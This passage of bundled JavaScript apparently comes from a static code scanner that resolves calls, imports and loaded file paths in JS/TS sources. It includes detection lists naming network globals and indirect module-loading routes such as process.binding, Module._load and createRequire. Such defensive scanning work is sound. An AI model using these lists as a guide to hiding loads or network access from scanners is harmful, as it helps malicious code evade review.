  const value = holder?.type === "assignment_pattern" || holder?.type === "object_assignment_pattern" ? holder.childForFieldName("right") : holder?.childForFieldName("value");
  const pattern = !destructured2 ? void 0 : node.type === "assignment_pattern" ? node.parent?.parent : node.parent;
  const param = pattern?.parent?.type === "required_parameter" || pattern?.parent?.type === "assignment_pattern" ? pattern.parent : pattern ?? holder;
  const list = param?.parent;
  return holder && value && list?.type === "formal_parameters" && list.parent ? { holder, value, list } : void 0;
}

// core/scan/javascript-loads.ts
var import_node_path4 = require("node:path");
var ROOT2 = "/\0";
var HERE = `${ROOT2}/1/2/3/4/5/6/7/8`;
var THIS_FILE = `${HERE}/\0file`;
var PATH_OPERATIONS = /* @__PURE__ */ new Set(["join", "resolve", "dirname"]);
var SAME_PATH = /* @__PURE__ */ new Set(["fileURLToPath", "toString"]);
var PathFolder = class {
  constructor(constants, held, declared) {
    this.constants = constants;
    this.held = held;
    this.declared = declared;
  }
  constants;
  held;
  declared;
  /** The project path (`./assets/x.txt`, `../x`) a loader's argument names relative to the file's folder, else undefined. */
  projectPath(node) {
    const folded = this.pathOf(node, 0);
    if (folded === void 0 || !folded.startsWith(`${ROOT2}/`)) return void 0;
    const normal = import_node_path4.posix.normalize(folded);
    if (normal.includes("\0file") || !normal.startsWith(`${ROOT2}/`)) return void 0;
    const relative = import_node_path4.posix.relative(HERE, normal);
    if (relative === "" || relative.includes("\0")) return void 0;
    return relative.startsWith("../") ? relative : `./${relative}`;
  }
  pathOf(node, depth) {
    if (!node || depth > MAX_RESOLVE_DEPTH) return void 0;
    const next = depth + 1;
    switch (node.type) {
      case "identifier": {
        const name2 = node.text;
        const held = this.held.get(name2);
        if (held) return this.pathOf(held, next);
        if ((name2 === "__dirname" || name2 === "__filename") && !this.declared(name2, node)) return name2 === "__dirname" ? HERE : THIS_FILE;
        return this.constants.stringOf(node);
      }
      case "parenthesized_expression":
        return node.namedChildCount === 1 ? this.pathOf(node.namedChild(0), next) : void 0;
      case "member_expression": {
        const text = node.text.replace(/\s+/g, "");
        if (text === "import.meta.url" || text === "import.meta.filename") return THIS_FILE;
        if (text === "import.meta.dirname") return HERE;
        const property = node.childForFieldName("property")?.text;
        return property === "href" || property === "pathname" ? this.pathOf(node.childForFieldName("object"), next) : void 0;
      }
      case "binary_expression": {
        if (node.childForFieldName("operator")?.type !== "+") return void 0;
        const left = this.pathOf(node.childForFieldName("left"), next);
        const right = left === void 0 ? void 0 : this.pathOf(node.childForFieldName("right"), next);
        return right === void 0 ? void 0 : left + right;
      }
      case "template_string": {
        let out2 = "";
        for (const part of node.namedChildren) {
          const piece = part?.type === "string_fragment" ? part.text : part?.type === "template_substitution" ? this.pathOf(part.namedChild(0), next) : void 0;
          if (piece === void 0) return void 0;
          out2 += piece;
        }
        return out2;
      }
      case "call_expression": {
        const fn = node.childForFieldName("function");
        const name2 = fn?.type === "member_expression" ? fn.childForFieldName("property")?.text : fn?.type === "identifier" ? fn.text : void 0;
        const args2 = namedChildrenOf(node);
        if (name2 === "toString" && fn?.type === "member_expression" && args2.length === 0) return this.pathOf(fn.childForFieldName("object"), next);
        if (name2 !== void 0 && SAME_PATH.has(name2) && args2.length === 1) return this.pathOf(args2[0], next);
        if (name2 === void 0 || !PATH_OPERATIONS.has(name2) || args2.length === 0) return void 0;
        const parts2 = [];
        for (const arg of args2) {
          const part = this.pathOf(arg, next);
          if (part === void 0) return void 0;
          parts2.push(part);
        }
        if (!parts2[0].startsWith(`${ROOT2}/`)) return void 0;
        if (name2 === "dirname") return parts2.length === 1 ? import_node_path4.posix.dirname(parts2[0]) : void 0;
        if (name2 === "resolve" && parts2.slice(1).some((p) => p.startsWith("/"))) return void 0;
        return import_node_path4.posix.join(...parts2);
      }
      case "new_expression": {
        if (node.childForFieldName("constructor")?.text !== "URL") return void 0;
        const [relative, base] = namedChildrenOf(node);
        const name2 = relative && this.constants.stringOf(relative);
        const from = base && this.pathOf(base, next);
        if (name2 === void 0 || from === void 0 || name2.startsWith("/") || /^[a-z][\w+.-]*:/i.test(name2)) return void 0;
        return import_node_path4.posix.join(from.endsWith("/") ? from : import_node_path4.posix.dirname(from), name2);
      }
      default:
        return this.constants.stringOf(node);
    }
  }
};

// core/scan/javascript.ts
var GLOBAL_NAMES = /* @__PURE__ */ new Set(["fetch", "Bun", "Deno", "WebSocket", "EventSource", "XMLHttpRequest", "navigator", "process", ...Object.keys(EVALUATORS.javascript).filter((target) => !target.includes("."))]);
var GLOBAL_OBJECTS = /* @__PURE__ */ new Set(["globalThis", "window", "self", "global"]);
function globalPath(name2) {
  if (GLOBAL_NAMES.has(name2)) return { module: GLOBAL, members: [name2] };
  if (GLOBAL_OBJECTS.has(name2)) return { module: GLOBAL, members: [] };
  if (name2 === "require") return { module: GLOBAL, members: [...MADE_REQUIRE] };
  return void 0;
}
var common = (callees, args2) => `
[(statement_block) (function_declaration) (generator_function_declaration) (function_expression) (generator_function) (arrow_function) (method_definition) (for_statement) (for_in_statement) (catch_clause) (class_body)] @scope
(import_statement) @import
(export_statement source: (_)) @import
(call_expression function: [(identifier) (member_expression) (subscript_expression) (parenthesized_expression) (super) (call_expression) (import)${callees}] @callee)
(arguments [(identifier) (member_expression)${args2}] @arg)
(arguments [(object) (array) (spread_element)] @arg.container)
(throw_statement [(identifier) (member_expression)] @arg)
(throw_statement [(object) (array)] @arg.container)
(new_expression constructor: [(identifier) (member_expression) (parenthesized_expression)] @new)
(variable_declarator name: (_) @def.name value: (_) @def.value)
(export_statement "default" @def.name value: (_) @def.value)
[(assignment_expression left: [(identifier) (member_expression) (subscript_expression) (object_pattern) (array_pattern)] @def.name right: (_) @def.value) (augmented_assignment_expression left: [(identifier) (member_expression) (subscript_expression)] @def.name operator: ["??=" "||=" "&&="] right: (_) @def.value)]
(variable_declarator name: (identifier) @local !value)
(arrow_function parameter: (identifier) @local)
(function_declaration name: (identifier) @outer)
(catch_clause parameter: (identifier) @local)
(for_in_statement kind: _ left: (identifier) @local)
`;
var JS_PARAMS = `
(formal_parameters (identifier) @local)
(formal_parameters (assignment_pattern left: (identifier) @local))
(formal_parameters (rest_pattern (identifier) @local))
(formal_parameters (object_pattern [(shorthand_property_identifier_pattern) (object_assignment_pattern left: (shorthand_property_identifier_pattern))] @local))
(formal_parameters (object_pattern (pair_pattern value: [(identifier) (assignment_pattern left: (identifier))] @local)))
(formal_parameters (assignment_pattern left: (object_pattern [(shorthand_property_identifier_pattern) (object_assignment_pattern left: (shorthand_property_identifier_pattern))] @local)))
(formal_parameters (assignment_pattern left: (object_pattern (pair_pattern value: [(identifier) (assignment_pattern left: (identifier))] @local))))
(class_declaration name: (identifier) @outer)
(class_declaration name: (identifier) @def.name (class_heritage) @def.value)
(field_definition) @field
`;
var TS_PARAMS = `
(required_parameter pattern: (identifier) @local)
(optional_parameter pattern: (identifier) @local)
(required_parameter pattern: (rest_pattern (identifier) @local))
(required_parameter pattern: (object_pattern [(shorthand_property_identifier_pattern) (object_assignment_pattern left: (shorthand_property_identifier_pattern))] @local))
(required_parameter pattern: (object_pattern (pair_pattern value: [(identifier) (assignment_pattern left: (identifier))] @local)))
(class_declaration name: (type_identifier) @outer)
(class_declaration name: (type_identifier) @def.name (class_heritage) @def.value)
(public_field_definition) @field
(export_statement "=" @def.name (_) @def.value)
(import_alias (identifier) @def.name . [(nested_identifier) (identifier)] @def.value)
(ambient_declaration) @ambient
`;
var TS_QUERY = common(" (non_null_expression) (await_expression)", " (instantiation_expression)") + TS_PARAMS;
var JS_QUERY = common("", "") + JS_PARAMS;
var normalModule = (specifier) => specifier.replace(/^node:/, "");
function normalMembers(path2) {
  return path2.members[0] === DEFAULT && path2.module !== GLOBAL ? { ...path2, members: path2.members.slice(1) } : path2;
}
var javaScriptQuery = (language, typescript, withComments) => queryOf(language, typescript ? TS_QUERY : JS_QUERY, withComments);
var CREATE_REQUIRE = /(?:^|\.)createRequire$/;
var MEMBER_CREATE_REQUIRE = /^[\w$]+\s*\.\s*createRequire\s*\(/;
var MADE_REQUIRE = ["createRequire", RETURNED];
var MODULE_BUILTIN = "node:module";
var LOADER_MODULES = /* @__PURE__ */ new Map([
  ["process", { module: GLOBAL, members: ["process"] }],
  ["module", { module: GLOBAL, members: [MODULE_BUILTIN] }]
]);
var LOADER_MEMBER_PATHS = [["process", "getBuiltinModule"], ["process", "mainModule", "require"], [MODULE_BUILTIN, "_load"], [MODULE_BUILTIN, "prototype", "require"], ["process", "binding"], ["process", "_linkedBinding"]];
var LOADER_PATHS = new Set([MADE_REQUIRE, ...LOADER_MEMBER_PATHS].map((members) => members.join(".")));
var LOADER_MEMBERS = new Set(LOADER_MEMBER_PATHS.map((members) => members.at(-1)));
var REFLECT_CALLS = ["Reflect.apply", "Reflect.construct"];
var REFLECTED = /^Reflect\s*\.\s*(?:apply|construct)$/;
var reflectedList = (reflect, callee) => namedChildrenOf(reflect)[callee.endsWith("construct") ? 1 : 2];
var INVOKED = /\.(?:call|apply)$/;
var INVOKED_END = /(?:call|apply)$/;
var LOADER_CALLEES = /* @__PURE__ */ new Set(["identifier", "member_expression", "subscript_expression", "call_expression", "parenthesized_expression"]);
function globalKey(path2) {
  if (path2?.module !== GLOBAL) return void 0;
  if (path2.members[0] === "process" && path2.members[1] === "mainModule" && path2.members[2] === "constructor") return globalKey({ ...path2, members: [MODULE_BUILTIN, ...path2.members.slice(3)] });
  return (path2.members[0] === MODULE_BUILTIN ? path2.members.filter((member) => member !== "Module" && member !== DEFAULT) : path2.members).join(".");
}
var loads = (path2) => LOADER_PATHS.has(globalKey(path2) ?? "");
var MODULE_OBJECT_LOADER = /^(?:module(?:\.parent)?|require\.main)\.(?:require|constructor\._load)$/;
var UPDATE_OPERATOR = /(?:[-+*/%&|^]|\*\*|<<|>>>?|\?\?|&&|\|\|)=(?!=)|\+\+|--/g;
var IDENTIFIER_CHAR = /[\p{L}\p{N}_$]/u;
function* updatedNames(source) {
  for (const { 0: operator, index } of source.matchAll(UPDATE_OPERATOR)) {
    let end = index;
    while (end > 0 && /\s/.test(source[end - 1])) end--;
    let start3 = end;
    while (start3 > 0 && IDENTIFIER_CHAR.test(source[start3 - 1])) start3--;
    if (start3 < end) yield source.slice(start3, end);
    if (operator === "++" || operator === "--") {
      let next = index + 2;
      while (next < source.length && /\s/.test(source[next])) next++;
      const after = identifierAt(source, next);
      if (after) yield after;
    }
  }
}
var PATTERN_ASSIGNED = /[}\]]\s*=(?![=>])/g;
function* patternAssignedNames(root, source) {
  for (const { 0: text, index } of source.matchAll(PATTERN_ASSIGNED)) {
    if (surelyNoPattern(source, index)) continue;
    const at = index + text.length - 1;
    const assignment = root.descendantForIndex(at, at + 1)?.parent;
    const left = assignment?.type === "assignment_expression" ? assignment.childForFieldName("left") : void 0;
    if (left?.type === "object_pattern" || left?.type === "array_pattern") yield* identifiersIn(left.text);
  }
}
var MAX_PATTERN_TEXT = 400;
var BEFORE_ARRAY = /* @__PURE__ */ new Set(["return", "yield", "await", "typeof", "void", "delete", "in", "of", "case", "do", "else", "instanceof", "new", "throw"]);
var DECLARES = /* @__PURE__ */ new Set(["const", "let", "var"]);
function surelyNoPattern(source, close) {
  const closer = source[close];
  const opener = closer === "}" ? "{" : "[";
  let depth = 0;
  let at = close;
  for (; at >= 0 && close - at < MAX_PATTERN_TEXT; at--) {
    const char = source[at];
    if (STRING_START.has(char) || char === "/") return false;
    if (char === closer) depth++;
    else if (char === opener && --depth === 0) break;
  }
  if (depth !== 0) return false;
  let end = at;
  while (end > 0 && /\s/.test(source[end - 1])) end--;
  if (opener === "[" && source[end - 1] === "]") return true;
  let start3 = end;
  while (start3 > 0 && IDENTIFIER_CHAR.test(source[start3 - 1])) start3--;
  const word = source.slice(start3, end);
  return DECLARES.has(word) || opener === "[" && word !== "" && !BEFORE_ARRAY.has(word);
}
var STRING_START = /* @__PURE__ */ new Set(["'", '"', "`"]);
var mayBeString = (source, value) => STRING_START.has(source[value.startIndex]) || mayJoinArray(source, value.startIndex, value.endIndex);
var DATA_URL = /^[`'"]?data:/i;
var NATIVE_ADDON_NAME = /[^'"`\n]*\.node/;
function namesNativeAddon(text) {
  let end = text.length;
  while (end > 0 && CLOSING.has(text[end - 1])) end--;
  return text.endsWith(".node", end);
}
var CLOSING = /* @__PURE__ */ new Set(["'", '"', "`", ")", " ", "	", "\n", "\r"]);
var PATH_NAME = /^(?:[`'"](?:\.{1,2}\/|\/)|`\$\{\s*(?:__dirname|__filename|import\s*\.\s*meta)|(?:path\s*\.\s*)?(?:join|resolve)\s*\(|__dirname|__filename|import\s*\.\s*meta|new\s+URL\s*\()/;
var CREATE_REQUIRE_PATH = [MODULE_BUILTIN, "createRequire"].join(".");
var LOADERS = /* @__PURE__ */ new Set(["require", "module", "process", "createRequire", "Reflect"]);
var DESCRIPTOR_READS = ["Object.getOwnPropertyDescriptor", "Reflect.getOwnPropertyDescriptor"];
var OBJECT_WRAPPERS = ["Object.freeze", "Object.seal", "Object.preventExtensions", "Object.create"];
var OBJECT_READ_AT = /(?:(?:Object|Reflect)\s*\.\s*getPrototypeOf|Object\s*\.\s*(?:getOwnPropertyDescriptors?|fromEntries|freeze|seal|preventExtensions|create|assign|values|entries|defineProperty)|Array\s*\.\s*from|new\s+(?:Proxy|WeakRef|Map|WeakMap|Set|WeakSet))\s*\(/y;
var OBJECT_READ_HEADS = /* @__PURE__ */ new Set(["Object", "Reflect", "Array", "Proxy", "WeakRef", "Map", "WeakMap", "Set", "WeakSet"]);
var COLLECTION_AT = /(?:Promise\s*\.\s*resolve\s*\(|new\s+(?:Map|WeakMap|Set|WeakSet)\s*[(<])/y;
var knownTo = (bindings) => (name2) => name2 !== void 0 && (bindings.known(name2) || LOADERS.has(name2) || name2 === "await" || name2 === "this" && bindings.prototypeMembers.size > 0);
var shadows = (bindings, name2) => bindings.mayResolve(name2) || LOADERS.has(name2) || OBJECT_READ_HEADS.has(name2);
function analyzeJavaScript(tree, source, language, typescript, filter, withComments, timeLimitMs, project2, esModuleByName = false) {
  const deadline = new Deadline(timeLimitMs);
  const { scopes, comments, imports: importNodes, callees, definitions: assigned, locals, args: args2 } = collectCaptures(javaScriptQuery(language, typescript, withComments), tree.rootNode, timeLimitMs);
  const definitions = withDerivedDefinitions(lastAssignedValues(assigned, source), callees, source, tree.rootNode);
  const bindings = new Bindings(scopes, globalPath);
  const imports = [];
  const binders = importNodes.map((node) => node.startIndex);
  for (const node of importNodes) importStatement(node, bindings, filter, imports, project2);
  const strictFile = typescript || esModuleByName;
  const resolver = new Resolver(bindings, filter, project2, void 0, deadline, strictFile);
  const known = knownTo(bindings);
  const bindLocal = (node, outer, name2) => {
    binders.push(node.startIndex);
    bindings.bind(outer ? bindings.scopeOf(node, node.parent) : bindings.scopeOf(node), name2, void 0);
  };
  const localNames = locals.map(([node]) => identifierAt(source, node.startIndex));
  const shadowLocals = (fresh) => {
    locals.forEach(([node, outer], i2) => {
      const name2 = localNames[i2];
      if ((!fresh || fresh.named(name2)) && shadows(bindings, name2)) bindLocal(node, outer, name2);
    });
  };
  shadowLocals();
  const declared = /* @__PURE__ */ new Set();
  let definitionsOf;
  const declareLocals = (name2) => {
    if (declared.has(name2)) return;
    declared.add(name2);
    locals.forEach(([node, outer], i2) => localNames[i2] === name2 && bindLocal(node, outer, name2));
    if (!definitionsOf) {
      definitionsOf = /* @__PURE__ */ new Map();
      for (const [nameNode] of definitions) {
        const first = identifierAt(source, nameNode.startIndex);
        const list = first === void 0 ? void 0 : definitionsOf.get(first);
        if (list) list.push(nameNode);
        else if (first !== void 0) definitionsOf.set(first, [nameNode]);
      }
    }
    for (const nameNode of definitionsOf.get(name2) ?? []) if (nameNode.type === "identifier" && nameNode.parent?.type === "variable_declarator" && !moduleLevel(nameNode)) bindLocal(nameNode, false, name2);
  };
  const bindDeclarations = (sites, fresh, mentioned) => {
    for (const [nameNode, value] of definitions) {
      const target = nameNode.type === "property_identifier" && nameNode.parent?.type === "member_expression" ? nameNode.parent.startIndex : nameNode.startIndex;
      if (mentioned ? !mentioned(target, value.startIndex, value.endIndex) : fresh && !mentions(source, target, value.startIndex, value.endIndex, fresh)) continue;
      bindDefinition(nameNode, value, sites);
    }
  };
  const bindDefinition = (nameNode, value, sites) => {
    const read = readDeclaration(source, nameNode, value, known, bindings);
    if (read.binds) binders.push(nameNode.startIndex);
    declaration(nameNode, value, read, resolver, bindings, sites, known, declareLocals);
  };
  for (const name2 of localNames) resolver.constants.poison(name2);
  for (const [nameNode, value] of definitions) {
    const opens = source[nameNode.startIndex];
    const type = opens === "{" || opens === "[" || !mayBeString(source, value) ? nameNode.type : void 0;
    if (type === "object_pattern") for (const [, local] of destructured(nameNode)) resolver.constants.poison(local.text);
    else if (type === "array_pattern") for (const element of arrayElements(nameNode)) {
      const local = elementName(element);
      if (local) resolver.constants.poison(local.text);
    }
    else if (type === "identifier") resolver.constants.poison(nameNode.text);
  }
  for (const name2 of updatedNames(source)) resolver.constants.poison(name2);
  for (const name2 of patternAssignedNames(tree.rootNode, source)) resolver.constants.poison(name2);
  bindDeclarations(imports);
  const parameters = javaScriptParameters({ source, bindings, captures: { callees, locals, definitions }, resolve: (node) => resolver.resolve(node), crosses: (path2) => filter.reachesCrossing(normalMembers(path2)), known, binders });
  const rebind = (fresh, mentioned) => {
    shadowLocals(fresh);
    bindDeclarations([], fresh, mentioned);
    shadowLocals(fresh);
  };
  followParameters(bindings, parameters.round, (fresh) => rebind(fresh));
  let promiseCallbacks;
  const rebindFactories = (fresh, mentioned) => {
    rebind(fresh, mentioned);
    promiseCallbacks ??= definitions.filter(([nameNode]) => identifierAt(source, nameNode.startIndex) === "then" && nameNode.type === "property_identifier" && nameNode.parent?.childForFieldName("object")?.type === "identifier");
    for (const [nameNode, value] of promiseCallbacks) {
      if (mentions(source, nameNode.parent.startIndex, value.startIndex, value.startIndex, fresh)) bindDefinition(nameNode, value, []);
    }
    parameters.defaults(mentioned ?? ((target, value, end) => mentions(source, target, value, end, fresh)));
  };
  bindFactories({ source, root: tree.rootNode, bindings, known, resolve: (node) => resolver.returnedValue(node), binders, rebind: rebindFactories }, JS_FACTORIES);
  const generators = bindings.startFresh();
  if (bindGenerators(tree.rootNode, source, resolver, bindings, binders)) rebind(generators);
  shadowLocals();
  renamedExports(tree.rootNode, source, bindings, binders);
  const { calls, passed: handed } = callsOf(callees, args2, resolver, bindings, known, source);
  const passed = [...handed, ...storedInParameters(definitions, resolver, known, source), ...storedWhereShared(definitions, callees, resolver, bindings, known, source), ...storedWhereUnfollowed(tree.rootNode, definitions, resolver, bindings, known, source)];
  const state = { bindings, binders, calls, passed, imports, comments: comments.map(commentText), withComments, constants: resolver.constants, parameters: parameters.facts, strictFile };
  const loads2 = loadedPaths(callees, definitions, resolver, bindings, known, source);
  return { calls: [...calls, ...passed], imports, comments, exports: bindings.exported(), state, ...loads2.length ? { loads: loads2 } : {} };
}
var PATH_ANCHOR = /__dirname|__filename|import\s*\.\s*meta|createRequire/;
function loadedPaths(callees, definitions, resolver, bindings, known, source) {
  if (!PATH_ANCHOR.test(source)) return [];
  const counts = /* @__PURE__ */ new Map();
  const values = /* @__PURE__ */ new Map();
  for (const [nameNode, value] of definitions) {
    if (nameNode.type !== "identifier") continue;
    const name2 = nameNode.text;
    counts.set(name2, (counts.get(name2) ?? 0) + 1);
    values.set(name2, value);
  }
  for (const [name2, count] of counts) if (count > 1) values.delete(name2);
  const folder = new PathFolder(resolver.constants, values, (name2, at) => bindings.declared(name2, at) || parameterOwner(at) !== void 0);
  const out2 = /* @__PURE__ */ new Set();
  for (const [node, kind] of callees) {
    if (kind !== "call") continue;
    const head = source[node.startIndex] === "(" ? void 0 : rootAt(source, node.startIndex);
    if (head !== void 0 && !known(head) && head !== "import") continue;
    const path2 = resolver.loadedPath(node, folder);
    if (path2 !== void 0) out2.add(path2);
  }
  return [...out2].sort();
}
function storedInParameters(definitions, resolver, known, source) {
  const out2 = [];
  for (const [nameNode, value] of definitions) {
    if (nameNode.type !== "member_expression" && nameNode.type !== "subscript_expression" || !known(identifierAt(source, value.startIndex))) continue;
    let holder = nameNode;
    while (holder.type === "member_expression" || holder.type === "subscript_expression") holder = holder.childForFieldName("object") ?? holder;
    const owner = holder.type === "identifier" ? parameterOwner(holder) : void 0;
    if (owner === void 0) continue;
    const path2 = resolver.resolve(value);
    if (path2 && !path2.returns && !path2.properties) out2.push(reportedWhereStored(value, path2, storedInParameterNote(oneLine(nameNode.text), holder.text, owner)));
  }
  return out2;
}
var REQUIRED_MODULE = /^require\s*\(\s*(['"`])([^'"`\n]+)\1\s*\)$/;
var LOADER_STATE_TEXT = /\b(?:extensions|_extensions|cache|_cache)\b/;
function storedWhereShared(definitions, callees, resolver, bindings, known, source) {
  const out2 = [];
  const stateText = LOADER_STATE_TEXT.test(source);
  let modules;
  const moduleHeld = (name2) => {
    if (!modules) {
      modules = /* @__PURE__ */ new Map();
      const seen = /* @__PURE__ */ new Set();
      for (const [nameNode, value] of definitions) {
        if (nameNode.type !== "identifier") continue;
        const loaded = REQUIRED_MODULE.exec(value.text);
        if (seen.has(nameNode.text)) modules.delete(nameNode.text);
        else if (loaded) modules.set(nameNode.text, loaded[2]);
        seen.add(nameNode.text);
      }
      for (const match of source.matchAll(/\bimport\s+(?:\*\s+as\s+)?([\w$]+)\s+from\s+(['"])([^'"\n]+)\2/g)) if (!seen.has(match[1])) modules.set(match[1], match[3]);
    }
    return modules.get(name2.text);
  };
  const loaderTableAt = (node) => stateText && node !== null && resolver.loaderState(node) === "extensions";
  for (const [nameNode, value] of definitions) {
    if (nameNode.type !== "member_expression" && nameNode.type !== "subscript_expression") continue;
    if (loaderTableAt(nameNode.childForFieldName("object"))) {
      out2.push({ start: nameNode.startIndex, end: nameNode.endIndex, callee: oneLine(nameNode.text), path: { module: GLOBAL, members: [] }, form: "call", unread: LOADER_TABLE });
      continue;
    }
    let holder = nameNode;
    let cached = false;
    while (holder.type === "member_expression" || holder.type === "subscript_expression") {
      holder = holder.childForFieldName("object") ?? holder;
      cached ||= stateText && resolver.loaderState(holder) === "cache";
    }
    let note;
    let stored = value;
    if (cached) {
      if (value.type === "object") {
        const pair = value.namedChildren.find((p) => p?.type === "pair" && /^["'`]?exports["'`]?$/.test(p.childForFieldName("key")?.text ?? ""));
        stored = pair?.childForFieldName("value") ?? null;
      }
      note = STORED_IN_MODULE_CACHE_NOTE;
    } else if (holder.type === "identifier" && GLOBAL_OBJECTS.has(holder.text) && !bindings.declared(holder.text, holder)) {
      note = storedInGlobalNote(oneLine(nameNode.text));
    } else if (holder.type === "call_expression" && REQUIRED_MODULE.test(holder.text) && !bindings.declared("require", holder)) {
      note = storedInModuleNote(oneLine(nameNode.text), REQUIRED_MODULE.exec(holder.text)[2]);
    } else if (holder.type === "identifier") {
      const module2 = moduleHeld(holder);
      if (module2 !== void 0) note = storedInModuleNote(oneLine(nameNode.text), module2);
    }
    if (!note || !stored || !known(identifierAt(source, stored.startIndex))) continue;
    const path2 = resolver.resolve(stored);
    if (path2 && !path2.returns && !path2.properties) out2.push(reportedWhereStored(stored, path2, note));
  }
  if (stateText) {
    for (const [node, kind] of callees) {
      if (kind !== "call" || node.type !== "subscript_expression" && node.type !== "member_expression") continue;
      if (loaderTableAt(node.childForFieldName("object"))) out2.push({ start: node.startIndex, end: node.endIndex, callee: oneLine(node.text), path: { module: GLOBAL, members: [] }, form: "call", unread: LOADER_TABLE });
    }
  }
  return out2;
}
var PROTOTYPE_WORD = /\b(?:prototype|__proto__)\b/g;
var CAST_WRAPPERS = /* @__PURE__ */ new Set(["parenthesized_expression", "as_expression", "non_null_expression", "satisfies_expression", "type_assertion"]);
var SETTER_WORD = /\bset\s*(?:(#?[\p{L}_$][\p{L}\p{N}_$]*)|\[|["'])/gu;
function storedWhereUnfollowed(root, definitions, resolver, bindings, known, source) {
  const out2 = [];
  const report = (value, note, wholeFollowed = false) => {
    if (!value) return;
    const values = [];
    if (value.type === "object" || value.type === "array") handedValues(value, values);
    else values.push(value);
    for (const v of values) {
      if (!known(identifierAt(source, v.startIndex))) continue;
      const path2 = resolver.resolve(v);
      if (path2?.returns) continue;
      const held = path2 ? path2.properties ? heldValues(path2) : [path2] : v.type === "identifier" ? bindings.held(v.text, v) ?? [] : [];
      for (const one of held) if (!(wholeFollowed && one.members.length === 0 && !one.properties)) out2.push(reportedWhereStored(v, one, note));
    }
  };
  for (const m of source.matchAll(PROTOTYPE_WORD)) {
    let word = root.descendantForIndex(m.index, m.index + m[0].length);
    if (word?.type === "string_fragment") word = word.parent;
    const parent = word?.parent;
    if (!word || !parent) continue;
    if (parent.type === "pair" && m[0] === "__proto__" && parent.childForFieldName("key")?.id === word.id) {
      report(parent.childForFieldName("value"), LITERAL_PROTOTYPE_NOTE, !/\bsuper\b/.test(parent.parent?.text ?? ""));
      continue;
    }
    if (word.type !== "property_identifier" || parent.type !== "member_expression") continue;
    let target = parent;
    for (let up = target.parent; up; up = target.parent) {
      if ((up.type === "member_expression" || up.type === "subscript_expression") && up.childForFieldName("object")?.id === target.id) target = up;
      else if (CAST_WRAPPERS.has(up.type) && up.namedChildren[0]?.id === target.id) target = up;
      else break;
    }
    const store = target.parent;
    if (!assigns(store) || store.childForFieldName("left")?.id !== target.id) continue;
    const holder = parent.childForFieldName("object");
    if (m[0] === "prototype" && holder?.type === "identifier" && (definedInFile(source, holder.text) || parameterOwner(holder) !== void 0)) continue;
    report(store.childForFieldName("right"), storedInPrototypeNote(oneLine(target.text)), m[0] === "__proto__" && target.id === parent.id);
  }
  const setters = /* @__PURE__ */ new Set();
  let computedSetter = false;
  for (const m of source.matchAll(SETTER_WORD)) {
    const word = root.descendantForIndex(m.index, m.index + 3);
    if (word?.type !== "set" || word.parent?.type !== "method_definition") continue;
    const name2 = word.parent.childForFieldName("name");
    const key = name2?.type === "string" ? stringValue(name2) : name2?.type === "computed_property_name" ? void 0 : name2?.text;
    if (key === void 0) computedSetter = true;
    else setters.add(key);
  }
  if (setters.size === 0 && !computedSetter) return out2;
  for (const [nameNode, value] of definitions) {
    if (nameNode.type !== "member_expression" && nameNode.type !== "subscript_expression") continue;
    const property = nameNode.childForFieldName(nameNode.type === "member_expression" ? "property" : "index");
    const key = property?.type === "string" ? stringValue(property) : nameNode.type === "member_expression" ? property?.text : void 0;
    const setter = key !== void 0 && setters.has(key) ? key : computedSetter ? "[\u2026]" : void 0;
    if (setter === void 0) continue;
    report(value, storedThroughSetterNote(oneLine(nameNode.text), setter));
  }
  return out2;
}
function unfollowedPrototype(node, source) {
  const m = /^([\p{L}_$][\p{L}\p{N}_$]*)?.*\.\s*(prototype|__proto__)$/su.exec(node.text);
  return m !== null && (m[2] === "__proto__" || m[1] === void 0 || !definedInFile(source, m[1]));
}
function definedInFile(source, name2) {
  const escaped = name2.replace(/\$/g, "\\$");
  return new RegExp(`(?:\\bclass|\\bfunction\\s*\\*?)\\s+${escaped}(?![\\p{L}\\p{N}_$])|(?<![\\p{L}\\p{N}_$.])${escaped}\\s*=\\s*(?:class|function)\\b`, "u").test(source);
}
function parameterOwner(name2) {
  for (let fn = enclosing(name2, BODY_OWNERS); fn; fn = enclosing(fn, BODY_OWNERS)) {
    const single = fn.childForFieldName("parameter");
    const parameters = single ? [single] : fn.childForFieldName("parameters")?.namedChildren ?? [];
    const named2 = parameters.some((p) => {
      const bound = p?.type === "assignment_pattern" ? p.childForFieldName("left") : p?.type === "required_parameter" || p?.type === "optional_parameter" ? p.childForFieldName("pattern") : p;
      return bound?.type === "identifier" && bound.text === name2.text;
    });
    if (!named2) continue;
    const own = fn.childForFieldName("name") ?? (fn.parent?.type === "variable_declarator" ? fn.parent.childForFieldName("name") : null);
    return own?.text ?? "function";
  }
  return void 0;
}
function callsOf(callees, args2, resolver, bindings, known, source) {
  const calls = [];
  const withs = WITH_TEXT.test(source) && callees.length ? withBodies(callees[0][0].tree.rootNode, source) : [];
  const withObjects = withs.length ? /* @__PURE__ */ new Map() : void 0;
  const constructors = source.includes(CONSTRUCTOR);
  for (const [node, kind] of callees) {
    const captured2 = source.startsWith("await", node.startIndex) && node.type === "await_expression" ? node.namedChild(0) : node;
    if (!captured2) continue;
    const reached = constructors && throughConstructor(captured2, source) || kind === "call" && inspectorPost(captured2, resolver.constants, source);
    if (reached) {
      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: reached, form: kind, ...codeOfCall(resolver.filter, resolver.constants, source, reached, kind, node.parent) });
      continue;
    }
    const parenthesized = source[captured2.startIndex] === "(";
    const head = parenthesized ? void 0 : rootAt(source, captured2.startIndex);
    const privateRead = head !== void 0 && !known(head) && privateHelperAt(PRIVATE_READ_AT, source, captured2.startIndex);
    const descriptorRead = head !== void 0 && OBJECT_READ_HEADS.has(head) && privateHelperAt(OBJECT_READ_AT, source, captured2.startIndex);
    const unread = kind === "call" && (!head || known(head) || head === "import" && captured2.type === "import") && !namesLiterally(source, node.endIndex) ? resolver.unreadLoad(node) : void 0;
    if (unread) {
      calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: { module: GLOBAL, members: [] }, form: kind, unread });
      continue;
    }
    const passedThrough2 = head !== void 0 && PASS_THROUGH_HEADS.has(head) && captured2.type === "call_expression" && PASS_THROUGH.test(captured2.childForFieldName("function")?.text ?? "");
    if (head && !known(head) && !privateRead && !descriptorRead && !passedThrough2) {
      const held = withObjects && withs.some((body2) => captured2.startIndex >= body2.start && captured2.startIndex < body2.end) && withMember(captured2, resolver, withObjects);
      if (held) calls.push({ start: captured2.startIndex, end: captured2.endIndex, callee: oneLine(captured2.text), path: normalMembers(held), form: kind });
      continue;
    }
